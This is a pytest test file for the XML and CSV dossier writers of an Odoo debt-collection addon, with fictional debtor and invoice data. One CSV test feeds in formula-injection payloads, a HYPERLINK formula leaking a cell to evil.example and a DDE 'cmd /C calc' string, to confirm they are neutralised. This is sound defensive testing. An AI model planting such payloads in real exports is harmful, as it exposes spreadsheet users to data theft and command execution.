"""Tests of the pure dossier writers in ``debiteur_dunning/dossier``.

The package is loaded by file path, never through ``odoo.addons`` (as in
``test_legal.py``): importing the addon would run its ``__init__`` (models, so
Odoo). That way the same file runs under plain pytest
(``python3 -m pytest -p no:odoo tests/test_dossier_writers.py``) and under
pytest-odoo, with no database.
"""

import ast
import copy
import csv
import io
import sys
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from .pure import load_pure

DOSSIER_DIR = Path(__file__).resolve().parent.parent / "debiteur_dunning" / "dossier"


dossier = load_pure("dossier", "debiteur_dossier")
NS = {"d": dossier.XMLNS}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def sample():
    """A dossier as ``debiteur.handoff._dossier_data`` gathers it."""
    return {
        "reference": "INC/2026/0001",
        "date": date(2026, 3, 2),
        "creditor": {"name": "YourCompany BV", "vat": "NL004495445B01", "registry": ""},
        "agency": {"name": "Incasso BV", "type": "incassobureau", "registration": ""},
        "debtor": {
            "name": "Jansen BV",
            "type": "business",
            "street": "Dorpsstraat 1",
            "street2": "",
            "zip": "1234 AB",
            "city": "Utrecht",
            "country": "NL",
            "email": "info@jansen.example",
            "phone": "",
            "lang": "nl_NL",
            "vat": "NL123456789B01",
            "vat_valid": False,
            "registry": "12345678",
            "registry_valid": True,
            "ibans": [{"number": "NL91ABNA0417164300", "valid": True}],
        },
        "invoices": [
            {
                "number": "INV/2026/00001",
                "invoice_date": date(2025, 12, 1),
                "due_date": date(2025, 12, 31),
                "currency": "EUR",
                "amount_total": 1000.0,
                "amount_open": 1000.0,
                "interest": 12.345,
                "disputed": False,
            },
            {
                "number": "INV/2026/00002",
                "invoice_date": date(2025, 12, 15),
                "due_date": date(2026, 1, 14),
                "currency": "EUR",
                "amount_total": 500.0,
                "amount_open": 250.0,
                "interest": 0.0,
                "disputed": True,
            },
        ],
        "cost_invoices": [
            {
                "number": "INV/2026/00003",
                "invoice_date": date(2026, 2, 1),
                "due_date": date(2026, 2, 15),
                "currency": "EUR",
                "amount_total": 50.0,
                "amount_open": 50.0,
                "interest": 10.0,
                "costs": 40.0,
                "origin": "HER/2026/0004",
            }
        ],
        "claim": {
            "currency": "EUR",
            "principal": 1250.0,
            "interest": Decimal("12.35"),
            "interest_invoiced": 10.0,
            "costs": 150.0,
            "costs_invoiced": 40.0,
            "costs_note": "",
            "interest_note": "",
            "total": 1462.35,
        },
        "communications": [
            {
                "reference": "HER/2026/0004",
                "date": date(2026, 1, 20),
                "channel": "email",
                "channel_label": "E-mail",
                "level": "Ingebrekestelling",
                "formal_notice": True,
                "sha256": "ab" * 32,
                "file_name": "HER-2026-0004.pdf",
                "attachment_id": 7,
            }
        ],
        "arrangements": [
            {
                "reference": "REG/2026/0001",
                "start_date": date(2026, 1, 5),
                "state": "handed_off",
                "state_label": "Handed Off to Agency",
                "amount_total": 1500.0,
                "amount_paid": 250.0,
            }
        ],
        "disputes": [
            {"invoice": "INV/2026/00002", "reason": "", "until": date(2026, 4, 1)}
        ],
        "warnings": ["VAT number NL123456789B01 is not valid."],
    }


def xpath(root, path):
    return root.xpath(path, namespaces=NS)


def csv_rows(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8")), delimiter=";"))


# --- the package stays pure ------------------------------------------------------


def test_dossier_package_imports_no_odoo():
    files = sorted(DOSSIER_DIR.glob("*.py"))
    assert {f.name for f in files} >= {
        "__init__.py",
        "csv_export.py",
        "dossier_xml.py",
        "validation.py",
    }
    allowed = set(sys.stdlib_module_names) | {"lxml", "stdnum"}
    for path in files:
        for node in ast.walk(ast.parse(path.read_text(), filename=str(path))):
            if isinstance(node, ast.Import):
                modules = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and not node.level:
                modules = [node.module]
            else:
                continue
            for module in modules:
                top = module.split(".")[0]
                assert top != "odoo", f"{path.name} imports {module}"
                assert top in allowed, f"{path.name} imports non-stdlib {module}"


def test_public_names_are_exported():
    for name in dossier.__all__:
        assert hasattr(dossier, name), name


# --- XML ---------------------------------------------------------------------------


def test_xml_matches_the_schema_and_reads_back():
    content = dossier.write_xml(sample())
    assert content.startswith(b"<?xml version='1.0' encoding='UTF-8'?>")
    root = etree.fromstring(content)
    assert dossier.schema().validate(root)
    assert root.tag == "{%s}dossier" % dossier.XMLNS
    assert root.get("version") == "1"
    assert xpath(root, "string(d:reference)") == "INC/2026/0001"
    assert xpath(root, "string(d:handoffDate)") == "2026-03-02"
    assert xpath(root, "d:invoices/d:invoice/d:number/text()") == [
        "INV/2026/00001",
        "INV/2026/00002",
    ]
    assert xpath(root, "d:invoices/d:invoice/d:disputed/text()") == ["false", "true"]
    # Amounts: two decimals, a dot.
    assert xpath(root, "d:invoices/d:invoice/d:interest/text()") == ["12.35", "0.00"]
    assert xpath(root, "string(d:costInvoices/d:costInvoice/d:costs)") == "40.00"
    assert xpath(root, "string(d:costInvoices/d:costInvoice/d:origin)") == (
        "HER/2026/0004"
    )
    claim = {
        etree.QName(node).localname: node.text for node in xpath(root, "d:claim/*")
    }
    assert claim == {
        "currency": "EUR",
        "principal": "1250.00",
        "interest": "12.35",
        "interestInvoiced": "10.00",
        "costs": "150.00",
        "costsInvoiced": "40.00",
        "total": "1462.35",
    }
    assert xpath(root, "string(d:communications/d:communication/d:formalNotice)") == (
        "true"
    )
    assert xpath(root, "string(d:arrangements/d:arrangement/d:amountPaid)") == (
        "250.00"
    )


def test_xml_flags_checked_numbers_and_leaves_out_what_is_empty():
    root = dossier.xml_tree(sample())
    debtor = xpath(root, "d:debtor")[0]
    assert xpath(debtor, "string(d:vat/@valid)") == "false"
    assert xpath(debtor, "string(d:companyRegistry/@valid)") == "true"
    assert xpath(debtor, "string(d:iban/@valid)") == "true"
    # Empty optional texts are left out, not written empty.
    assert not xpath(debtor, "d:phone | d:address/d:street2")
    assert not xpath(root, "d:creditor/d:companyRegistry")
    assert not xpath(root, "d:agency/d:registrationNumber")
    # A dispute without a reason says so with a dash.
    assert xpath(root, "string(d:disputes/d:dispute/d:reason)") == "-"
    assert xpath(root, "string(d:disputes/d:dispute/d:blockedUntil)") == "2026-04-01"


def test_xml_of_an_empty_dossier_matches_the_schema():
    data = sample()
    for key in ("cost_invoices", "communications", "arrangements", "disputes"):
        data[key] = []
    data["debtor"].update(vat="", registry="", ibans=[], email="", lang="")
    data["disputes"] = [{"invoice": "INV/2026/00002", "reason": "x", "until": None}]
    root = dossier.xml_tree(data)
    dossier.validate(root)
    assert not xpath(root, "d:debtor/d:vat | d:debtor/d:iban")
    assert not xpath(root, "d:disputes/d:dispute/d:blockedUntil")


def test_a_dossier_off_its_schema_is_refused():
    data = sample()
    data["claim"]["currency"] = "euro"
    data["communications"][0]["sha256"] = "not a hash"
    with pytest.raises(dossier.DossierSchemaError) as refused:
        dossier.write_xml(data)
    assert len(refused.value.errors) == 2
    assert all(error.startswith("line ") for error in refused.value.errors)
    assert str(refused.value) == "; ".join(refused.value.errors)
    assert isinstance(refused.value, ValueError)

    root = dossier.xml_tree(sample())
    root.remove(root[0])  # no reference
    with pytest.raises(dossier.DossierSchemaError, match="reference"):
        dossier.validate(root)


def test_schema_errors_quoted_are_at_most_five():
    data = sample()
    data["communications"] = [
        dict(data["communications"][0], sha256="bad") for _ in range(8)
    ]
    with pytest.raises(dossier.DossierSchemaError) as refused:
        dossier.write_xml(data)
    assert len(refused.value.errors) == 5


def test_writers_do_not_change_their_data():
    data = sample()
    before = copy.deepcopy(data)
    dossier.write_xml(data)
    dossier.write_csv(data)
    assert data == before


# --- CSV ---------------------------------------------------------------------------


def test_csv_rows_one_per_record():
    content = dossier.write_csv(sample())
    assert content.startswith(";".join(dossier.CSV_COLUMNS).encode() + b"\r\n")
    rows = csv_rows(content)
    assert [row["record_type"] for row in rows] == [
        "debtor",
        "invoice",
        "invoice",
        "cost_invoice",
        "claim",
        "communication",
        "arrangement",
        "dispute",
    ]
    assert {row["handoff"] for row in rows} == {"INC/2026/0001"}
    assert {row["debtor"] for row in rows} == {"Jansen BV"}
    debtor, inv1, inv2, cost, claim, comm, arrangement, dispute = rows
    assert debtor["reference"] == "12345678"
    assert debtor["status"] == "business"
    assert debtor["note"] == (
        "NL123456789B01 | Dorpsstraat 1 | 1234 AB | Utrecht | NL | "
        "info@jansen.example | NL91ABNA0417164300"
    )
    assert (inv1["date"], inv1["due_date"], inv1["interest"]) == (
        "2025-12-01",
        "2025-12-31",
        "12.35",
    )
    assert (inv2["amount"], inv2["amount_open"], inv2["status"]) == (
        "500.00",
        "250.00",
        "disputed",
    )
    assert (cost["costs"], cost["interest"], cost["note"]) == (
        "40.00",
        "10.00",
        "HER/2026/0004",
    )
    assert claim == dict(
        claim,
        date="2026-03-02",
        amount="1462.35",
        amount_open="1250.00",
        interest="12.35",
        costs="150.00",
        interest_invoiced="10.00",
        costs_invoiced="40.00",
    )
    assert (comm["channel"], comm["sha256"], comm["status"], comm["note"]) == (
        "email",
        "ab" * 32,
        "formal_notice",
        "HER-2026-0004.pdf",
    )
    assert (arrangement["amount_open"], arrangement["status"]) == (
        "1250.00",
        "handed_off",
    )
    assert (dispute["due_date"], dispute["status"]) == ("2026-04-01", "disputed")


def test_csv_neutralises_formulas_and_keeps_negative_amounts():
    data = sample()
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Pay here")'
    data["debtor"].update(name=hostile, street="+31 cmd|' /C calc'!A0", vat="")
    data["invoices"][0]["amount_open"] = -12.5
    data["disputes"][0]["reason"] = "@SUM(1+1)"
    rows = csv_rows(dossier.write_csv(data))
    for row in rows:
        for column, cell in row.items():
            if column in dossier.CSV_NUMERIC_COLUMNS and cell:
                float(cell)  # a number, not text
                continue
            assert not cell.startswith(FORMULA_STARTS), (row["record_type"], column)
    assert {row["debtor"] for row in rows} == {"'" + hostile}
    assert rows[0]["note"].startswith("'+31 cmd")
    assert rows[1]["amount_open"] == "-12.50"
    assert rows[-1]["note"] == "'@SUM(1+1)"


def test_csv_cell():
    csv_cell = dossier.csv_cell
    assert csv_cell("-12.50", numeric=True) == "-12.50"
    assert csv_cell("1000.00", numeric=True) == "1000.00"
    assert csv_cell("-12.50") == "'-12.50"
    assert csv_cell("-1+1", numeric=True) == "'-1+1"
    assert csv_cell("=1+1", numeric=True) == "'=1+1"
    for start in FORMULA_STARTS:
        assert csv_cell(start + "x") == "'" + start + "x"
    assert csv_cell("Jansen BV") == "Jansen BV"
    assert csv_cell("a=b") == "a=b"
    assert csv_cell(False) == ""
    assert csv_cell(None) == ""
    assert csv_cell(0) == "0"


@settings(max_examples=200, deadline=None)
@given(st.text(), st.booleans())
def test_csv_cell_never_starts_a_formula_and_loses_nothing(text, numeric):
    cell = dossier.csv_cell(text, numeric=numeric)
    assert cell in (text, "'" + text)
    if cell.startswith(FORMULA_STARTS):
        assert numeric and cell == text
        float(cell)


# --- numbers the dossier checks ------------------------------------------------


@pytest.mark.parametrize(
    ("number", "country", "valid"),
    [
        ("12345678", "NL", True),
        ("1234 56.78", "NL", True),
        ("1234567", "NL", False),
        ("1234567X", "NL", False),
        ("0403.170.701", "BE", True),
        ("0403-170-702", "BE", False),
        ("anything", "DE", True),
        ("", "NL", False),
        (None, "BE", False),
    ],
)
def test_registry_is_valid(number, country, valid):
    assert dossier.registry_is_valid(number, country) is valid
